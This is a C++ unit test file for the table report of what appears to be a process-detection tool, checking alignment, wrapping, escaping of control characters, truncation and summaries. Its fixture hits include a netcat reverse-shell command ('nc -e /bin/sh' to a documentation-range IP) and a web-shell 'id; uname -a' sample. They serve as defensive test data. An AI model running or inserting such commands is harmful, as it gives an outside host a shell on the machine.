#include "src/report/table_report.h"

#include <algorithm>
#include <catch2/catch.hpp>
#include <cstdio>

#include "engine/escape.h"
#include "src/report/hit_view.h"
#include "src/report/time_zone.h"
#include "tests/support/hits.h"
#include "tests/support/written.h"

namespace detectd {
namespace {

std::string table_of(const std::vector<Hit>& hits, Terminal terminal) {
  REQUIRE(use_time_zone("UTC"));
  Written written;
  TableReport report(written.output(), {.terminal = terminal});
  report.show_hits(hits);
  return written.text();
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines;
  for (size_t at = 0; at < text.size();) {
    const size_t end = text.find('\n', at);
    REQUIRE(end != std::string::npos);
    lines.push_back(text.substr(at, end - at));
    at = end + 1;
  }
  return lines;
}

std::vector<Hit> two_hits() {
  return {make_hit({}), make_hit({.rule_name = "nc-reverse",
                                  .name = "nc",
                                  .command_line = "nc -e /bin/sh 203.0.113.9 443",
                                  .parent_name = "sh"})};
}

}  // namespace

TEST_CASE("off a terminal a hit is one line with aligned columns", "[report]") {
  CHECK(table_of(two_hits(), {}) ==
        "2026-11-20T14:03:07.112Z high  web-shell   nginx(812) > sh(9921)  www-data  "
        "sh -c 'id; uname -a'\n"
        "2026-11-20T14:03:07.112Z high  nc-reverse  sh(812) > nc(9921)     www-data  "
        "nc -e /bin/sh 203.0.113.9 443\n");
}

TEST_CASE("on a narrow terminal a hit is two lines, and no line is wider than the terminal", "[report]") {
  const std::string text = table_of(two_hits(), {.is_terminal = true, .columns = 80});
  CHECK(text ==
        "2026-11-20T14:03:07.112Z high  web-shell   www-data\n"
        "    nginx(812) > sh(9921): sh -c 'id; uname -a'\n"
        "2026-11-20T14:03:07.112Z high  nc-reverse  www-data\n"
        "    sh(812) > nc(9921): nc -e /bin/sh 203.0.113.9 443\n");
}

TEST_CASE("no hit is wider than the terminal, whatever its event says", "[report]") {
  const size_t columns = GENERATE(as<size_t>{}, 40, 80, 149, 150, 200);
  std::vector<Hit> hits;
  for (const std::string& text : hostile_texts()) {
    std::string longer;
    for (int i = 0; i < 60; ++i) longer += text;
    hits.push_back(make_hit({.rule_name = "",
                             .title = longer,
                             .name = longer,
                             .command_line = longer,
                             .user = longer,
                             .parent_name = longer}));
  }
  for (const std::string& line : lines_of(table_of(hits, {.is_terminal = true, .columns = columns}))) {
    CHECK(display_width(line) <= columns);
  }
}

TEST_CASE("TRUST 33: no control character of an event reaches the table", "[report]") {
  for (const std::string& text : hostile_texts()) {
    CAPTURE(text);
    const Hit hit = make_hit({.title = text,
                              .name = text,
                              .executable = text,
                              .command_line = text,
                              .user = text,
                              .parent_name = text});
    for (const size_t columns : {size_t{0}, size_t{80}, size_t{200}}) {
      const std::string shown = table_of({hit}, {.columns = columns});
      CHECK(std::all_of(shown.begin(), shown.end(), [](unsigned char c) { return c >= 0x20 || c == '\n'; }));
      CHECK(std::count(shown.begin(), shown.end(), '\n') == (columns == 80 ? 2 : 1));
      const std::string line = shown.substr(0, shown.find('\n'));
      CHECK(escape_text(line) == line);  // escaped already, so nothing is left to escape
    }
  }
}

TEST_CASE("a command line of more than 4,096 bytes says how much of it is not shown", "[report]") {
  const std::string shown = table_of({make_hit({.command_line = std::string(10'000, 'x')})}, {});
  CHECK(shown.ends_with(std::string(4096, 'x') + " [5,904 bytes more]\n"));
}

TEST_CASE("a cut text ends with an ellipsis and keeps whole characters", "[report]") {
  CHECK(cut("abcdef", 6) == "abcdef");
  CHECK(cut("abcdef", 4) == "abc\u2026");
  CHECK(cut("\u00e9\u00e9\u00e9", 2) == "\u00e9\u2026");
  CHECK(cut("\U0001f608\U0001f608", 3) == "\U0001f608\u2026");
  CHECK(fit("ab", 4) == "ab  ");
}

TEST_CASE("numbers have separators", "[report]") {
  CHECK(with_separators(0) == "0");
  CHECK(with_separators(999) == "999");
  CHECK(with_separators(1000) == "1,000");
  CHECK(with_separators(1204331) == "1,204,331");
}

TEST_CASE("the summary tells levels, completeness and digests", "[report]") {
  REQUIRE(use_time_zone("UTC"));
  Written written;
  TableReport report(written.output(), {});
  Summary summary;
  summary.events = 1'204'331;
  summary.hits = 2;
  summary.lost = 1412;
  summary.gaps = 2;
  summary.elapsed_ns = 1'100'000'000;
  summary.levels[static_cast<size_t>(Level::kHigh)] = {
      .hits = 2, .rules = 2, .first_ns = 1'795'183'387'000'000'000, .last_ns = 1'795'183'389'000'000'000};
  report.show_summary(summary);
  CHECK(written.text() ==
        "\nlevel     hits  rules  first      last\n"
        "high         2      2  14:03:07Z  14:03:09Z\n"
        "1,204,331 events in 1.1 s; 0 skipped; sensor lost 1,412 (0.12 %) in 2 gaps; "
        "rules sha256:000000000000..; hits sha256:000000000000..\n");
}

TEST_CASE("the summary says what it does not know of losses", "[report]") {
  struct Case {
    uint64_t lost, gaps, uncounted;
    const char* want;
  };
  const Case cases[] = {{0, 0, 0, "; 0 lost;"},
                        {7, 1, 0, "; sensor lost 7 (7.00 %) in 1 gap;"},
                        {0, 1, 0, "; sensor lost 0 (0.00 %) in 1 gap;"},
                        {7, 3, 1, "; sensor lost at least 7 (7.00 %) in 3 gaps;"},
                        {0, 2, 2, "; sensor lost an unknown number in 2 gaps;"}};
  for (const Case& test : cases) {
    CAPTURE(test.want);
    Written written;
    TableReport report(written.output(), {});
    Summary summary;
    summary.events = 93;
    summary.lost = test.lost;
    summary.gaps = test.gaps;
    summary.uncounted_gaps = test.uncounted;
    report.show_summary(summary);
    CHECK(written.text().find(test.want) != std::string::npos);
  }
}

TEST_CASE("a disk that is full is told once, and a reader that went away is not an error to show",
          "[report]") {
  FILE* full = std::fopen("/dev/full", "w");
  REQUIRE(full != nullptr);
  Output output(fileno(full));
  output.write("x");
  output.flush();
  CHECK(output.failed());
  CHECK_FALSE(output.closed());
  CHECK(output.status().error().message == "write standard output: No space left on device");
  std::fclose(full);
}

}  // namespace detectd
